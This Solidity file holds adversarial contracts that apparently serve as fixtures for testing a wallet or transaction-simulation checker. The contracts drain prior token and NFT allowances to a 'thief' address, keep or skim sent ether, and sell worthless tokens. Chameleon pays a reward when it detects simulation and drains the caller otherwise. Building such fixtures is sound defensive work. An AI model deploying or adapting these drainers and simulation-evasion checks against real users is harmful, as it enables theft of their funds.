// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {OpenCoin, ICoin} from "./Coins.sol";

/// Whichever function is called, takes the whole allowance that the caller gave earlier for a token, and
/// keeps the ether that was sent.
contract OldFriend {
    address public immutable token;
    address public immutable thief;

    constructor(address token_, address thief_) {
        token = token_;
        thief = thief_;
    }

    function pull(address from) internal {
        uint256 all = ICoin(token).balanceOf(from);
        uint256 allowed = ICoin(token).allowance(from, address(this));
        uint256 taken = allowed < all ? allowed : all;
        if (taken > 0) require(ICoin(token).transferFrom(from, thief, taken), "not paid");
    }

    fallback() external payable virtual {
        pull(msg.sender);
    }

    receive() external payable {}
}

interface IItems {
    function transferFrom(address from, address to, uint256 id) external;
}

/// Whichever function is called, takes an item that it may transfer.
contract OldCollector {
    address public immutable collection;
    uint256 public immutable id;
    address public immutable thief;

    constructor(address collection_, uint256 id_, address thief_) {
        collection = collection_;
        id = id_;
        thief = thief_;
    }

    fallback() external payable {
        IItems(collection).transferFrom(msg.sender, thief, id);
    }
}

/// Whichever function is called, approves the thief for some of a token.
contract Generous {
    address public immutable token;
    address public immutable thief;
    uint256 public immutable amount;

    constructor(address token_, address thief_, uint256 amount_) {
        token = token_;
        thief = thief_;
        amount = amount_;
    }

    fallback() external payable {
        OpenCoin(token).grant(msg.sender, thief, amount);
    }
}

/// Has the functions of every wrapper but implements none of them. It keeps the ether that was sent.
contract KeepsAll {
    fallback() external payable {}

    receive() external payable {}
}

/// Account without an owner. It executes calls, but only sends a hundredth of the value.
contract KeepsMost {
    struct Call3Value {
        address target;
        bool allowFailure;
        uint256 value;
        bytes callData;
    }

    function execute(address dest, uint256 value, bytes calldata func) external payable {
        (bool ok,) = dest.call{value: value / 100}(func);
        require(ok, "the call inside failed");
    }

    function aggregate3Value(Call3Value[] calldata calls) external payable {
        for (uint256 index; index < calls.length; index += 1) {
            (bool ok,) = calls[index].target.call{value: calls[index].value / 100}(calls[index].callData);
            require(ok || calls[index].allowFailure, "the call inside failed");
        }
    }

    receive() external payable {}
}

/// Token distributor that takes the earlier allowance. Its functions emit many logs, return many bytes, burn
/// gas or nest calls.
contract LoudClaims is OldFriend {
    event Claimed(uint256 indexed epoch, address indexed account);

    constructor(address token_, address thief_) OldFriend(token_, thief_) {}

    /// `proof` is padding and is ignored.
    function claim(uint256 epoch, bytes calldata) external {
        pull(msg.sender);
        emit Claimed(epoch, msg.sender);
    }

    function claimMany(uint256 first, uint256 last) external {
        pull(msg.sender);
        for (uint256 epoch = first; epoch <= last; epoch += 1) emit Claimed(epoch, msg.sender);
    }

    /// Returns the given number of bytes.
    function claimAndReport(uint256 bytes_) external returns (bytes memory) {
        pull(msg.sender);
        return new bytes(bytes_);
    }

    /// Burns gas until the given amount is left.
    function claimWithProofOfWork(uint256 left) external {
        pull(msg.sender);
        uint256 seed = 1;
        while (gasleft() > left) seed = uint256(keccak256(abi.encode(seed)));
        emit Claimed(seed, msg.sender);
    }

    /// Takes the allowance in a self-call at the given depth.
    function claimDeep(uint256 depth) external {
        if (depth == 0) pull(msg.sender == address(this) ? tx.origin : msg.sender);
        else LoudClaims(payable(address(this))).claimDeep(depth - 1);
    }

    /// Sends small amounts of many unknown tokens.
    function claimBasket(address[] calldata tokens) external {
        pull(msg.sender);
        for (uint256 index; index < tokens.length; index += 1) OpenCoin(tokens[index]).mint(msg.sender, 1 ether);
    }
}

/// Pays a reward if it is only simulated, and otherwise takes the allowance.
contract Chameleon is OldFriend {
    address public immutable reward;

    constructor(address token_, address thief_, address reward_) OldFriend(token_, thief_) {
        reward = reward_;
    }

    function claimByRandom() external {
        act(block.prevrandao == 0);
    }

    function claimByCoinbase() external {
        act(block.coinbase == address(0));
    }

    function claimByPrice() external {
        act(tx.gasprice == block.basefee || block.basefee == 0);
    }

    function claimByGas() external {
        act(gasleft() > 25_000_000);
    }

    /// Harmless before a time that is later than the simulation.
    function claimByTime(uint256 until) external {
        act(block.timestamp < until);
    }

    function claimByBlock(uint256 until) external {
        act(block.number <= until);
    }

    function claimByHash() external {
        act(blockhash(block.number - 1) == bytes32(0));
    }

    function act(bool simulated) private {
        if (simulated) OpenCoin(reward).mint(msg.sender, 100 ether);
        else pull(msg.sender);
    }
}

/// Deploys a copy of another contract (EIP-1167) at an address that has no code yet and can be predicted
/// (CREATE2).
contract Maker {
    event Made(address made);

    function prepare(bytes32 salt, address model) external returns (address made) {
        bytes memory code =
            abi.encodePacked(hex"3d602d80600a3d3981f3363d3d373d3d3d363d73", model, hex"5af43d82803e903d91602b57fd5bf3");
        assembly {
            made := create2(0, add(code, 32), mload(code), salt)
        }
        require(made != address(0), "made already");
        emit Made(made);
    }

    function ping() external {}

    /// Burns gas for the given number of rounds.
    function work(uint256 rounds) public pure {
        uint256 seed = 1;
        for (uint256 round; round < rounds; round += 1) seed = mulmod(seed, 0x5851f42d4c957f2d, type(uint256).max);
        require(seed != 0, "never");
    }

    function workForPay(uint256 rounds) external view {
        require(tx.gasprice > 0, "not for nothing");
        work(rounds);
    }
}

/// Unlisted sale that takes the allowance and pays with its own token or a tiny amount of a listed one.
contract Sale {
    /// @param out token that is minted at the requested rate
    function buy(address payWith, uint256 amount, address out, uint256 given) external payable {
        if (amount > 0) require(ICoin(payWith).transferFrom(msg.sender, address(this), amount), "not paid");
        OpenCoin(out).mint(msg.sender, given);
    }

    receive() external payable {}
}

/// Transfers the earlier allowance to a recipient in the caller's bytes.
contract SwapProxy {
    /// @param packed token (20 bytes), amount (16), recipient (20); not aligned to words
    function swap(bytes calldata packed) external payable {
        require(packed.length == 56, "packed");
        address token = address(bytes20(packed[0:20]));
        uint256 amount = uint128(bytes16(packed[20:36]));
        require(ICoin(token).transferFrom(msg.sender, address(bytes20(packed[36:56])), amount), "not paid");
    }

    function swapTo(address token, uint256 amount, address to, uint256 id) external {
        require(ICoin(token).transferFrom(msg.sender, to, amount), "not paid");
        id;
    }

    function multicall(bytes[] calldata data) external payable {
        for (uint256 index; index < data.length; index += 1) {
            (bool ok,) = address(this).delegatecall(data[index]);
            require(ok, "the call inside failed");
        }
    }
}
